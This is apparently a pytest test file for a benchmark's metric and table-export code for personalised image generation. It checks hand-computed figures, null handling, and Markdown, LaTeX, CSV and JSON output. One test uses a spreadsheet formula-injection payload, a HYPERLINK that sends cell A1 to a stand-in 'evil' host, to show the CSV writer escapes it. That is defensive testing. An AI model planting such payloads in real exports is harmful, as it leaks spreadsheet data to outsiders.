"""Every figure of a run, computed by hand on few samples; null is never 0; subjects count once each."""

import csv
import io
import json
import math

import numpy as np
import pytest

from sefi.benchmark.records import RunInfo, Sample
from sefi.benchmark.statistics import Interval
from sefi.benchmark.table_files import (
    convert_table,
    format_card_text,
    format_csv,
    format_every_eval_ever,
    format_heading,
    format_latex,
    format_markdown,
    format_range,
    format_samples,
    format_tables_csv,
    format_tables_json,
    format_text,
    format_value,
)
from sefi.benchmark.table_metrics import METRICS, find_conditions
from sefi.benchmark.tables import (
    Table,
    VariantRow,
    compute_all_differences,
    compute_differences,
    make_table,
    make_tables_by_kind,
)
from sefi.core.errors import ConfigError

METRIC = {metric.name: metric for metric in METRICS}
SUITE = {
    "name": "hand",
    "prompts": [
        {"text": "a photo of {} at the beach", "kind": "scene", "wanted": [["scene", "beach"]]},
        {"text": "{} smiling in the snow", "kind": "both", "wanted": [["attribute", "smiling"], ["scene", "snow"]]},
    ],
    "variants": [
        {"label": "photo", "about": "", "control": "photo"},
        {"label": "ours", "about": "", "control": None},
        {"label": "theirs", "about": "", "control": None},
    ],
    "seeds": [1, 2],
}


def make_run(**changes):
    model = {"name": "m", "fingerprint": "f"}
    values = {"schema": 1, "suite": SUITE, "subjects": [], "model": model, "tau": 0.25, "evaluators": {}}
    return RunInfo.model_validate(values | changes)


def sample(**changes):
    values = {"subject": "ada", "variant": "ours", "kind": "scene", "prompt": 0, "seed": 1, "text": "a photo of person"}
    return Sample.model_validate(values | {"image": "pictures/0.png", "sha256": "00"} | changes)


def copy_for(samples, subject):
    return [sample.model_copy(update={"subject": subject}) for sample in samples]


def scored(*pairs, **more):
    """Samples of likeness and prompt score; a likeness of None is an image without a face."""
    return [
        sample(id=like or 0.0, faces=int(like is not None), prompt_score=score, seed=seed, **more)
        for seed, (like, score) in enumerate(pairs)
    ]


def value(name, samples, run=None):
    return METRIC[name].formula(samples, find_conditions(samples, run or make_run()))


IMAGES = scored((0.5, 0.3), (0.7, 0.2), (None, 0.4), (0.2, 0.25))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("id", (0.5 + 0.7 + 0 + 0.2) / 4),
        ("id_detected", (0.5 + 0.7 + 0.2) / 3),
        ("face", 3 / 4),
        ("one_face", 3 / 4),
        ("prompt", (0.3 + 0.2 + 0.4 + 0.25) / 4),
        ("id_prompt", (0.5 + 0 + 0 + 0.2) / 4),  # a score of exactly tau counts
        ("id_prompt_area", (0.5 * 0.5 + 0.7 * 0 + 0 + 0.2 * 0.25) / 4),  # tau from 0.2 to 0.4
        ("verified", 2 / 4),
    ],
)
def test_figures_by_hand(name, expected):
    assert value(name, IMAGES, make_run(far_threshold=0.5)) == pytest.approx(expected)


@pytest.mark.parametrize(("threshold", "passed"), [(0.5, 2), (0.2, 3), (0.0, 3), (-0.5, 3), (0.8, 0)])
def test_an_image_without_a_face_is_never_verified(threshold, passed):
    assert value("verified", IMAGES, make_run(far_threshold=threshold)) == pytest.approx(passed / 4)


def test_a_second_face_is_a_face_but_not_exactly_one():
    samples = [sample(faces=2), sample(faces=1), sample(faces=0)]
    assert value("face", samples) == pytest.approx(2 / 3)
    assert value("one_face", samples) == pytest.approx(1 / 3)
    prompts = [{"text": "{} and {}", "kind": "scene"}]
    pair = make_run(suite={**SUITE, "prompts": prompts, "together": 2})
    assert value("one_face", [*samples, sample(faces=2)], pair) == pytest.approx(2 / 4)


def test_copying_looks_at_faces_only():
    samples = [
        sample(id=0.7, id_other_photo=0.4, faces=1),
        sample(id=0.5, id_other_photo=0.6, faces=1),
        sample(id=0, id_other_photo=0, faces=0),
    ]
    assert value("copy", samples) == pytest.approx(0.1)
    assert value("id_other", samples) == pytest.approx(1.0 / 3)


def test_the_second_recogniser_has_figures_of_its_own():
    samples = [
        sample(id=0.1, id_second=0.7, id_second_other=0.4, prompt_score=0.25),
        sample(id=0.9, id_second=0.5, id_second_other=0.2, prompt_score=0.2),
        sample(id=0.9, prompt_score=0.3),
    ]
    assert value("id_second", samples) == pytest.approx(0.6)
    assert value("id_prompt_second", samples) == pytest.approx(0.35)
    assert value("id_other_second", samples) == pytest.approx(0.3)
    assert math.isnan(value("id_prompt_second", samples, make_run(tau=None)))
    info = {"file": "a.onnx", "sha256": "0"}
    run = make_run(evaluators={"detector": info, "second_recogniser": info})
    missing = make_table([sample(faces=1)], run).missing
    assert missing["id"] == "the run has no recogniser"
    assert missing["id_second"] == "no image has it"
    assert (
        make_table([sample(faces=1)], make_run(evaluators={"detector": info, "recogniser": info})).missing["id_second"]
        == "the run has no second recogniser"
    )


def test_shown_counts_by_image_and_by_kind():
    samples = [sample(shown=[True]), sample(shown=[False]), sample(prompt=1, shown=[True, False])]
    assert value("shown", samples) == pytest.approx((1 + 0 + 0.5) / 3)
    assert value("shown_scene", samples) == pytest.approx(1 / 3)
    assert value("shown_attribute", samples) == 1.0
    assert math.isnan(value("shown_style", samples))


def test_diversity_is_taken_within_a_prompt():
    # Within prompt 0 the images are at right angles, within prompt 1 equal; across prompts they would differ more.
    samples = [
        sample(prompt=0, embedding=[1.0, 0.0, 0.0]),
        sample(prompt=0, embedding=[0.0, 3.0, 0.0]),
        sample(prompt=1, embedding=[0.0, 0.0, 2.0]),
        sample(prompt=1, embedding=[0.0, 0.0, 5.0]),
    ]
    assert value("diversity", samples) == pytest.approx((1 + 0) / 2)
    assert math.isnan(value("diversity", samples[1:3]))


def test_memory_is_the_most_and_seconds_are_the_mean():
    samples = [sample(peak_mb=7.0, draw_seconds=1.0), sample(peak_mb=5.0, draw_seconds=2.0)]
    assert value("peak_mb", samples) == 7.0
    assert value("draw_seconds", samples) == 1.5


def test_own_background_is_what_other_photos_do_not_have():
    samples = [sample(background=0.5, background_others=0.25), sample(background=0.125, background_others=0.25)]
    assert value("background_own", [*samples, sample(background=0.9)]) == pytest.approx(0.0625)


def test_own_likeness_is_what_other_photos_do_not_have():
    samples = [sample(clip_image=0.75, clip_image_others=0.25), sample(clip_image=0.5, clip_image_others=0.25)]
    assert value("clip_image_own", [*samples, sample(clip_image=0.9)]) == pytest.approx(0.375)


@pytest.mark.parametrize("metric", METRICS, ids=lambda metric: metric.name)
def test_nothing_that_was_not_computed_counts(metric):
    """Samples full of null next to whole ones change no figure, and alone give nan, not 0."""
    empty = sample(
        **dict.fromkeys(
            (
                "faces",
                "id",
                "id_other_photo",
                "id_second",
                "prompt_score",
                "shown",
                "background",
                "embedding",
                "peak_mb",
            )
        )
    )
    run = make_run(far_threshold=0.5)
    assert math.isnan(metric.formula([empty], find_conditions([empty], run)))
    whole = [
        one.model_copy(
            update={"shown": (True,), "id_other_photo": 0.1, "embedding": (1.0, float(one.seed)), "peak_mb": 3.0}
        )
        for one in IMAGES
    ]
    fixed = find_conditions(whole, run)
    assert find_conditions([*whole, empty], run) == fixed
    assert metric.formula([*whole, empty], fixed) == pytest.approx(metric.formula(whole, fixed), nan_ok=True)


def test_every_metric_has_its_own_name_and_an_explanation():
    assert len(METRIC) == len(METRICS) == len({metric.label for metric in METRICS})
    assert all(metric.about.endswith(".") and metric.needs is not None for metric in METRICS)


def test_each_subject_counts_once_whatever_the_number_of_images():
    samples = [*scored((0.2, 0.3), (0.4, 0.3), (0.6, 0.3)), *scored((0.8, 0.3), subject="bob")]
    found = make_table(samples, make_run()).values["ours", "id"]
    assert found.mean == pytest.approx((0.4 + 0.8) / 2)
    assert found.n == 2
    assert (found.low, found.high) == (pytest.approx(0.4), pytest.approx(0.8))


def test_rows_are_variants_then_reference_rows_and_columns_are_computed_metrics():
    samples = [*scored((0.5, 0.3)), *scored((0.6, 0.3), variant="theirs"), *scored((1.0, 0.1), variant="photo")]
    found = make_table(samples, make_run())
    assert [variant.label for variant in found.variants] == ["ours", "theirs", "photo"]
    names = [metric.name for metric in found.metrics]
    assert names == [metric.name for metric in METRICS if metric.name in names]
    assert {"id", "prompt", "face"} <= set(names)
    assert "background" not in names
    assert set(names) | set(found.missing) == set(METRIC)


def test_a_metric_that_one_variant_lacks_is_not_computed_there():
    samples = [*scored((0.5, 0.3)), *scored((0.6, None), variant="theirs")]
    found = make_table(samples, make_run())
    assert found.values["ours", "prompt"].mean == 0.3
    assert not found.values["theirs", "prompt"].computed


def test_reasons_name_what_is_missing():
    evaluators = {"detector": {"file": "d", "sha256": "0"}, "recogniser": None, "scene_reader": None, "clip": None}
    missing = make_table([sample(faces=1)], make_run(evaluators=evaluators)).missing
    assert missing["id"] == "the run has no recogniser"
    assert missing["id_prompt"] == "the run has no recogniser and no CLIP"
    assert missing["shown"] == "the run has no reader"
    assert missing["verified"] == "the run has no recogniser and no false-accept threshold"
    evaluators["scene_reader"] = evaluators["recogniser"] = {"file": "r", "sha256": "1"}
    missing = make_table([sample(faces=1)], make_run(evaluators=evaluators)).missing
    assert missing["shown"] == "no image has it"
    assert missing["copy"] == "the run has no other image of the subjects"


def test_reasons_name_no_field_of_a_file():
    missing = make_table([sample()], make_run(evaluators={})).missing
    assert set(missing) == set(METRIC)
    assert missing["focus_plain"] == missing["on_objects_plain"] == "the run has no record of attention"
    assert missing["peak_mb"] == "the run has no record of memory"
    fields = {name.replace("_", " ") for name in Sample.model_fields if "_" in name} | {"trained", "added"}
    named = " and ".join(missing.values()).replace("the run has no ", "").split(" and no ")
    assert not fields & {one for reason in named for one in reason.split(" and ")}


def test_kinds_are_slices_under_the_whole_runs_conditions():
    other = scored((0.4, 0.9), (0.6, 0.35), prompt=1, kind="both")
    found = make_tables_by_kind([*IMAGES, *other], make_run())
    assert list(found) == ["scene", "both"]
    assert found["scene"].values["ours", "id"].mean == pytest.approx(0.35)
    assert found["both"].values["ours", "id"].mean == pytest.approx(0.5)
    # tau runs from 0.2 to 0.9 in both, though "scene" alone ends at 0.4.
    assert found["scene"].values["ours", "id_prompt_area"].mean == pytest.approx((0.5 / 7 + 0.2 * 0.05 / 0.7) / 4)


def test_differences_are_paired_by_subject():
    samples = [
        *scored((0.5, 0.3)),
        *scored((0.9, 0.3), subject="bob"),
        *scored((0.1, 0.3), subject="eve"),
        *scored((0.4, 0.4), variant="theirs"),
        *scored((0.6, 0.4), variant="theirs", subject="bob"),
    ]
    found = compute_differences(samples, make_run(), "ours", "theirs")
    assert (found["id"].mean, found["id"].n) == (pytest.approx(0.2), 2)
    assert (found["id"].low, found["id"].high) == (pytest.approx(0.1), pytest.approx(0.3))
    assert found["prompt"].high < 0
    assert "shown" not in found
    first, others = compute_all_differences(samples, make_run())
    assert (first, list(others)) == ("ours", ["theirs"])
    assert others["theirs"] == found


def test_an_unknown_variant_is_refused_with_the_nearest():
    with pytest.raises(ConfigError, match="Did you mean 'theirs'"):
        compute_differences(IMAGES, make_run(), "ours", "their")
    with pytest.raises(ConfigError, match="images of 'mine'"):
        make_table([sample(variant="mine", id=0.1)], make_run())


@pytest.mark.parametrize("kind", ["", "style"])
def test_a_run_without_images_is_refused(kind):
    with pytest.raises(ConfigError, match="no images"):
        make_table([] if not kind else IMAGES, make_run(), kind)


def of_two(samples):
    """The same of two subjects: a variant with one has no spread, and does not compete."""
    return [*samples, *copy_for(samples, "bob")]


def test_the_best_is_bold_and_reference_rows_do_not_compete():
    samples = [*scored((0.5, 0.3)), *scored((0.6, 0.2), variant="theirs"), *scored((1.0, 0.9), variant="photo")]
    found = make_table(of_two(samples), make_run())
    assert found.find_best(METRIC["id"]) == {"theirs"}
    assert found.find_best(METRIC["prompt"]) == {"ours"}
    assert found.find_best(METRIC["face"]) == frozenset()  # all equal: nobody leads
    assert make_table(of_two(scored((0.5, 0.3))), make_run()).find_best(METRIC["id"]) == frozenset()
    lines = format_markdown(found).splitlines()
    assert lines[0].startswith("| variant | ID(Prompt) ↑ |")
    assert "**0.600**" in next(line for line in lines if line.startswith("| theirs"))
    assert "**" not in next(line for line in lines if line.startswith("| photo"))


def test_nobody_leads_with_one_subject_or_in_an_unfinished_run():
    samples = [*scored((0.5, 0.3), (0.4, 0.3)), *scored((0.6, 0.2), (0.7, 0.3), variant="theirs")]
    assert make_table(samples, make_run()).find_best(METRIC["id"]) == frozenset()
    assert "**" not in format_markdown(make_table(samples, make_run()))
    # Of two variants one has two subjects: it has nobody to lead.
    uneven = [*samples, *copy_for([one for one in samples if one.variant == "ours"], "bob")]
    assert make_table(uneven, make_run()).find_best(METRIC["id"]) == frozenset()
    variants = [variant for variant in SUITE["variants"] if variant["control"] is None]
    both = make_run(
        subjects=["ada", "bob"], suite={**SUITE, "variants": variants, "prompts": SUITE["prompts"][:1], "seeds": [0, 1]}
    )
    whole = make_table(of_two(samples), both)
    assert (whole.finished, whole.find_best(METRIC["id"])) == (True, {"theirs"})
    part = make_table(of_two(samples)[:-1], both)
    assert (part.finished, part.find_best(METRIC["id"])) == (False, frozenset())
    told = json.loads(format_tables_json(of_two(samples)[:-1], both))
    assert told["images"] == {"made": 7, "planned": 8, "finished": False}


def test_nobody_leads_a_figure_that_variants_have_of_different_subjects():
    # In no image of theirs bob has a face: their likeness over faces is ada's alone, who is the easier one for both.
    ours = [*scored((0.6, 0.3), (0.6, 0.3)), *scored((0.2, 0.3), (0.2, 0.3), subject="bob")]
    theirs = [*scored((0.5, 0.2), (0.5, 0.2)), *scored((None, 0.2), (None, 0.2), subject="bob")]
    theirs += scored((0.5, 0.2), subject="eve")  # who makes it two: a single one never leads
    samples = [
        *ours,
        *scored((None, 0.3), subject="eve"),
        *(c.model_copy(update={"variant": "theirs"}) for c in theirs),
    ]
    found = make_table(samples, make_run())
    assert found.values["ours", "id_detected"].mean == pytest.approx(0.4)
    assert found.values["theirs", "id_detected"].mean == pytest.approx(0.5)
    assert [found.values[label, "id_detected"].n for label in ("ours", "theirs")] == [2, 2]
    assert found.uneven == {"id_detected"}
    assert found.find_best(METRIC["id_detected"]) == frozenset()
    assert found.find_best(METRIC["prompt"]) == {"ours"}
    text = format_markdown(found)
    assert "0.400 [0.200, 0.600] (n = 2)" in text
    assert text.count("(n = 2)") == 2
    assert format_text(found).count("(n = 2)") == 2


def test_lower_is_better_where_the_arrow_says_so():
    samples = [sample(draw_seconds=2.0), sample(variant="theirs", draw_seconds=1.0)]
    assert make_table(of_two(samples), make_run()).find_best(METRIC["draw_seconds"]) == {"theirs"}
    assert format_heading(METRIC["draw_seconds"]) == "generation ↓"


def test_markdown_puts_the_interval_in_brackets_and_guards_its_bars():
    run = make_run(suite={**SUITE, "variants": [{"label": "a|b", "about": "", "control": None}]})
    samples = [*scored((0.2, 0.3), variant="a|b"), *scored((0.4, 0.3), variant="a|b", subject="bob")]
    text = format_markdown(make_table(samples, run))
    assert "| a\\|b |" in text
    assert "0.300 [0.200, 0.400]" in text
    assert len({line.replace("\\|", "").count("|") for line in text.splitlines()}) == 1


def test_numbers_read_well():
    assert format_value(math.nan, "cosine") == "-"
    assert format_value(0.979, "share") == "97.9%"
    assert format_value(-0.25, "seconds", sign=True) == "-0.2 s"
    assert format_range(Interval(0.5, math.nan, math.nan, 1), "cosine") == ""
    assert format_range(Interval(0.0, -0.125, 0.125, 4), "cosine", sign=True) == "[-0.125, +0.125]"


def test_json_says_null_where_nothing_was_computed():
    samples = [*scored((0.5, 0.3)), *scored((0.6, None), variant="theirs")]
    found = json.loads(json.dumps(convert_table(make_table(samples, make_run())), allow_nan=False))
    assert found["values"]["theirs"]["prompt"] is None
    assert found["values"]["ours"]["prompt"] == {"mean": 0.3, "low": None, "high": None, "n": 1}
    assert found["not_computed"]["shown"] == "the run has no reader"


def test_csv_has_a_line_for_every_variant_and_metric(synthetic):
    run, samples = synthetic.make_run(), synthetic.make_samples()
    found = make_table(samples, run)
    lines = list(csv.DictReader(io.StringIO(format_csv(found))))
    assert len(lines) == len(found.variants) * len(found.metrics)
    line = next(each for each in lines if (each["variant"], each["figure"]) == ("ours", "id"))
    expected = found.values["ours", "id"]
    assert (float(line["mean"]), float(line["low"]), int(line["n"])) == (expected.mean, expected.low, 3)
    empty = next(each for each in lines if (each["variant"], each["figure"]) == ("photo", "diversity"))
    assert (empty["mean"], empty["n"], empty["control"]) == ("", "", "photo")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\uff1d"])
def test_no_text_of_the_csv_is_a_formula_and_every_number_is_one(begin):
    label = f'{begin}HYPERLINK("http://evil/?"&A1,"ours")'
    found = Table(
        f"{begin}kind",
        (VariantRow(label, "", f"{begin}photo"),),
        METRICS[:1],
        {},
        {(label, METRICS[0].name): Interval(-0.5, -0.6, -0.4, 3)},
    )
    [line] = csv.DictReader(io.StringIO(format_csv(found)))
    assert (line["kind"], line["variant"], line["control"]) == (f"'{begin}kind", f"'{label}", f"'{begin}photo")
    assert (line["mean"], line["low"], line["high"], line["n"]) == ("-0.5", "-0.6", "-0.4", "3")


def test_one_plain_loop_gives_the_same_means(synthetic):
    """Parity: the whole table against pandas-like grouping written out."""
    run, samples = synthetic.make_run(), synthetic.make_samples(5)
    found = make_table(samples, run)
    for variant in ("ours", "one token", "class word"):
        likes, gated = [], []
        for subject in synthetic.SUBJECTS:
            mine = [c for c in samples if (c.variant, c.subject) == (variant, subject)]
            assert len(mine) == 6
            likes.append(sum(c.id for c in mine) / 6)
            gated.append(sum(c.id if c.prompt_score >= 0.23 else 0.0 for c in mine) / 6)
        assert found.values[variant, "id"].mean == pytest.approx(np.mean(likes))
        assert found.values[variant, "id_prompt"].mean == pytest.approx(np.mean(gated))


@pytest.mark.slow
def test_everything_in_one_file(synthetic):
    run, samples = synthetic.make_run(), synthetic.make_samples()
    found = json.loads(format_tables_json(samples, run))
    assert list(found["kinds"]) == ["scene", "action", "combination"]
    assert found["differences"]["variant"] == "ours"
    assert list(found["differences"]["less"]) == ["one token", "class word", "photo", "same", "other"]
    assert {line["kind"] for line in csv.DictReader(io.StringIO(format_tables_csv(samples, run)))} == {
        "",
        *found["kinds"],
    }


def test_the_order_of_the_records_changes_no_bit(synthetic):
    """Several processes may write one record: lines come as they come."""
    run, samples = synthetic.make_run(), synthetic.make_samples()
    assert convert_table(make_table(samples, run)) == convert_table(make_table(list(reversed(samples)), run))


@pytest.mark.parametrize("label", ["[4] ours", "*ours*", "*", "[", "ours"])
def test_no_row_of_latex_begins_with_an_argument_of_the_row_above(label):
    run = make_run(suite={**SUITE, "variants": [{"label": label, "about": "", "control": None}]})
    text = format_latex(make_table(scored((0.2, 0.3), variant=label), run))
    rows = text.split(r"\toprule")[1].split(r"\bottomrule")[0].replace(r"\midrule", "").strip().splitlines()
    rows = [row for row in rows if row]
    assert len(rows) == 2
    assert all(row.startswith("{}") and row.endswith(r" \\") for row in rows)
    assert rows[1].startswith(f"{{}}{label} & ")


def read_evaluation(samples, run, variant="ours"):
    """The text in the schema of Every Eval Ever, with its results by name."""
    record = json.loads(format_every_eval_ever(samples, run, 7)[f"{variant}.json"])
    return record, {result["evaluation_name"]: result for result in record["evaluation_results"]}


@pytest.mark.parametrize("far", [-1.0, 1.0])
def test_every_score_lies_within_the_bounds_that_are_declared(far):
    cosines = ("id", "id_second", "prompt_score", "clip_image", "background", "dino", "id_leaked")
    values = dict.fromkeys(cosines, far) | {"clip_image_others": -far, "background_others": -far}
    shares = {"faces": 1, "shown": (True,), "focus": 1.0, "on_objects": 0.0, "margin": far}
    samples = [sample(embedding=(sign, 0.0), seed=seed, **values, **shares) for seed, sign in ((1, 1.0), (2, -1.0))]
    evaluators = dict.fromkeys(("detector", "recogniser", "second_recogniser", "scene_reader", "head_reader", "clip"))
    known = {name: {"file": name, "sha256": "00"} for name in (*evaluators, "dino")}
    _, results = read_evaluation(samples, make_run(evaluators=known, tau=-1.0))
    assert {"id", "diversity", "background_own", "clip_image_own", "shown"} <= results.keys()
    bounds = {name: one["metric_config"] for name, one in results.items()}
    for name, one in results.items():
        assert bounds[name]["min_score"] <= one["score_details"]["score"] <= bounds[name]["max_score"], name
    assert results["diversity"]["score_details"]["score"] == 2.0
    assert results["clip_image_own"]["score_details"]["score"] == 2 * far
    expected = {
        "id": (-1, 1),
        "shown": (0, 1),
        "diversity": (0, 2),
        "background_own": (-2, 2),
        "clip_image_own": (-2, 2),
    }
    assert expected == {name: (bounds[name]["min_score"], bounds[name]["max_score"]) for name in expected}


@pytest.mark.parametrize("folder", ["/home/ada/secret/", "C:\\Users\\ada\\secret\\", "../secret/", ""])
@pytest.mark.parametrize("learner", ["ours", "another variant"])
def test_nothing_that_is_published_says_where_a_file_lies(folder, learner):
    named = {"basis.names": "list.txt", "compose.weights": "w.safetensors", "learn.encoder": "e.safetensors"}
    named["mine.table"] = "t.csv"  # of another package's method, on record by its bytes
    settings = {"method": "x", "basis": {}, "compose": {"alpha": 0.5}, "learn": {"steps": 3}, "mine": {}}
    for setting, file in named.items():
        section, _, last = setting.partition(".")
        settings[section][last] = folder + file
    learning_files = {"settings": {learner: {"basis.names": "aa", "mine.table": "bb"}}}
    run = make_run(
        settings={"ours": settings}, learning_files=learning_files, model={"name": "/secret/sd14", "fingerprint": "f"}
    )
    samples = scored((0.2, 0.3))
    record, _ = read_evaluation(samples, run)
    details = record["model_info"]["additional_details"]
    shortened = json.loads(details["settings"])
    assert {name: shortened[name.split(".")[0]][name.split(".")[1]] for name in named} == named
    assert (shortened["compose"]["alpha"], shortened["learn"]["steps"]) == (0.5, 3)
    digests = ("aa", "bb") if learner == "ours" else (None, None)
    assert (details.get("basis.names sha256"), details.get("mine.table sha256")) == digests
    texts = [*format_every_eval_ever(samples, run, 7).values(), format_tables_json(samples, run)]
    texts += [format_tables_csv(samples, run), format_latex(make_table(samples, run)), format_samples(samples)]
    texts.append(format_card_text(samples, run, []))
    assert not [text for text in texts if "secret" in text]
